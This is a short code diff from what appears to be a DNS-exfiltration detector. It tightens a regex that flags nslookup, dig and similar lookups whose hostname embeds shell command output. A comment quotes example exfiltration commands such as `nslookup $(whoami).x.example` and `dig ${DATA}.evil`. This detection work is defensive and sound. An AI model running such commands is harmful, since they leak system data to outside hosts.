@@ -78,7 +78,7 @@ export const urlEncodedData = {
 // command/variable output (`nslookup $(whoami).x.example`, `dig ${DATA}.evil`).
 const LONG_LABEL_RE = /(?<![\w.-])((?:[a-f0-9]{32,63}|[a-z2-7]{40,63}|[A-Z2-7]{40,63}))\.(?:[a-z0-9-]{1,63}\.){1,6}([a-z]{2,24})(?![\w-])/g;
 const FILE_EXTS = new Set(['js', 'mjs', 'cjs', 'css', 'map', 'json', 'png', 'jpg', 'jpeg', 'gif', 'svg', 'webp', 'html', 'htm', 'txt', 'py', 'ts', 'md', 'woff', 'woff2', 'ttf', 'wasm', 'zip', 'gz', 'tar', 'pack', 'idx', 'lock', 'log', 'bin', 'dat', 'pdf', 'yml', 'yaml']);
-const LOOKUP_RE = /\b(?:nslookup|dig|host|drill|Resolve-DnsName|getent\s{1,4}hosts)\s{1,4}[^\n|;&]{0,200}?(?:\$\(|`|\$\{|\$[A-Za-z_])/g;
+const LOOKUP_RE = /\b(?:nslookup|dig|host|drill|Resolve-DnsName|getent\s{1,4}hosts)(?:\s{1,4}[-+@][\w=.:-]{1,40}){0,4}\s{1,4}[^\s|;&]{0,100}?(?:\$\(|`|\$\{|\$[A-Za-z_])/g;
 const CODE_LOOKUP_RE = /\b(?:dns\.(?:resolve\w{0,4}|lookup)|socket\.(?:gethostbyname|getaddrinfo)|dns\.resolver\.(?:resolve|query))\s{0,4}\(\s{0,4}(?:f["'][^"'\n]{0,200}\{|`[^`\n]{0,200}\$\{|[\w.]{1,60}\s{0,4}\+|["'][^"'\n]{0,200}["']\s{0,4}[+%])/g;
 
 const LONG_LABEL_GATE = /[a-f0-9]{32}|[a-z2-7]{40}|[A-Z2-7]{40}/;
